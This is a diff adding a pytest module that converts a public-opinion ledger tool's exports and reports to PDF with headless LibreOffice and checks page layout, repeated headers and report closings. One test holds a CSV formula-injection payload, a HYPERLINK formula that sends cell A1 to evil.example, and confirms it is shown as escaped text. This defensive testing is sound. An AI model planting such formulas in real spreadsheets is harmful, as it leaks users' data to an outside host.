@@ -1,0 +1,131 @@
+"""The exports and reports opened by a real office suite: LibreOffice headless converts them to PDF.
+
+What a clerk notices when printing: the 台账 is one A4 landscape page wide
+with every column header on every page, the reports' table headers repeat on
+the next page, the 落款 closes the report; and a spreadsheet program never
+runs a cell as a formula. LibreOffice is slow to start, so every file is
+converted in one run per module (`.ci/ensure-libreoffice` installs it; the
+tests are skipped without it).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from yuqing.cli import main
+
+from .conftest import PROJECT, RegisterDir
+from .test_export import HOSTILE_UNIT, LEDGER_HEADERS, hostile_register
+from .test_stats import NOW
+
+pytestmark = pytest.mark.slow
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+EXAMPLE_NOW = "2026-11-23T09:00:00+08:00"
+
+
+def _soffice(profile: Path, outdir: Path, target: str, files: list[Path], *extra: str) -> None:
+    assert SOFFICE is not None
+    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", *extra,
+                    "--convert-to", target, "--outdir", str(outdir), *map(str, files)],
+                   check=True, capture_output=True, timeout=300)
+
+
+def pages(pdf: Path) -> list[str]:
+    """The text of each page (pdftotext puts a form feed between pages)."""
+    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True,
+                          text=True).stdout
+    return text.split("\f")[:-1]
+
+
+def page_count(pdf: Path) -> int:
+    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
+    match = re.search(r"^Pages:\s+(\d+)", info, re.M)
+    assert match
+    return int(match.group(1))
+
+
+def squeeze(text: str) -> str:
+    return re.sub(r"\s+", "", text)
+
+
+@pytest.fixture(scope="module")
+def office(tmp_path_factory: Any) -> Path:
+    if SOFFICE is None or shutil.which("pdftotext") is None:
+        pytest.skip("需要 LibreOffice 与 poppler-utils(运行 .ci/ensure-libreoffice 安装)")
+    folder = tmp_path_factory.mktemp("office")
+    example = ["--root", str(PROJECT), "--now", EXAMPLE_NOW]
+    assert main(["export", "xlsx", *example, "--out", str(folder / "ledger.xlsx")]) == 0
+    for kind in ("weekly", "annual"):
+        assert main(["report", kind, *example, "--format", "docx", "--out", str(folder / f"{kind}.docx")]) == 0
+    hostile = hostile_register(RegisterDir(tmp_path_factory.mktemp("hostile")))
+    args = ["--root", str(hostile.root), "--now", NOW]
+    assert main(["export", "xlsx", *args, "--out", str(folder / "hostile.xlsx")]) == 0
+    assert main(["export", "csv", *args, "--out", str(folder / "hostile.csv")]) == 0
+    profile = folder / "profile"
+    _soffice(profile, folder, "pdf", [folder / n for n in ("ledger.xlsx", "weekly.docx", "annual.docx",
+                                                          "hostile.xlsx")])
+    # The CSV as a spreadsheet program reads it: UTF-8, comma, double quotes, and formulas evaluated.
+    (folder / "csv").mkdir()
+    _soffice(profile, folder / "csv", "xlsx", [folder / "hostile.csv"], "--infilter=CSV:44,34,76,1")
+    return folder
+
+
+def ledger_pages(folder: Path, name: str) -> list[str]:
+    """The pages printed from the 台账 sheet (the workbook's other sheets follow it)."""
+    return [p for p in pages(folder / name) if "处置经过" in p]
+
+
+def test_ledger_prints_one_page_wide_with_every_header_on_every_page(office: Path) -> None:
+    printed = ledger_pages(office, "ledger.pdf")
+    # 24 records of the example register, rows as high as their 处置经过: seven A4 landscape pages,
+    # each one page wide (the fit-to-width scale), each with the whole header row.
+    assert len(printed) == 7
+    for number, text in enumerate(printed, start=1):
+        flat = squeeze(text)
+        missing = [h for h in LEDGER_HEADERS if h not in flat]
+        assert not missing, (number, missing)
+    assert "示例市市场监督管理局舆情台账" in squeeze(printed[0])
+    assert "制表日期:2026年11月23日" in squeeze(printed[0])
+    assert "第1页" in squeeze(printed[0])
+    info = subprocess.run(["pdfinfo", str(office / "ledger.pdf")], capture_output=True, text=True).stdout
+    assert "841.89 x 595.3" in info  # A4 landscape
+    # Every record's id is printed once, in order.
+    ids = re.findall(r"YQ-\d{4}-\d{4}", "".join(printed))
+    assert ids == sorted(ids) and len(ids) == len(set(ids)) == 24
+
+
+def test_report_tables_repeat_their_header_and_the_report_ends_with_its_closing(office: Path) -> None:
+    weekly = pages(office / "weekly.pdf")
+    assert page_count(office / "weekly.pdf") == len(weekly) == 4
+    # The new-incidents table runs onto page 2, which starts with its header row again.
+    first_line = next(line for line in weekly[1].splitlines() if line.strip())
+    assert squeeze(first_line) == "编号标题等级领域责任单位发现时间来源"
+    annual = pages(office / "annual.pdf")
+    assert page_count(office / "annual.pdf") == len(annual) == 5
+    for document in (weekly, annual):
+        last = [squeeze(line) for line in document[-1].splitlines() if line.strip()]
+        # 落款: the unit and the day, the page number below.
+        assert last[-3:-1] == ["示例市市场监督管理局", "2026年11月23日"]
+
+
+def test_office_suite_never_runs_an_exported_cell_as_a_formula(office: Path) -> None:
+    printed = squeeze("".join(pages(office / "hostile.pdf")))
+    # Shown as the text written (with the apostrophe), not as the link text a formula would show.
+    assert squeeze("'" + HOSTILE_UNIT) in printed
+    assert squeeze("'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")") in printed
+    book = openpyxl.load_workbook(office / "csv" / "hostile.xlsx")
+    cells = [c for row in book.active.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(isinstance(c.value, str) and "=HYPERLINK(\"http://evil" in c.value for c in cells)
+    rows = list(csv.reader(io.StringIO((office / "hostile.csv").read_text(encoding="utf-8-sig"), newline="")))
+    assert [r[1] for r in rows] == ["编号", "YQ-2025-0001"]
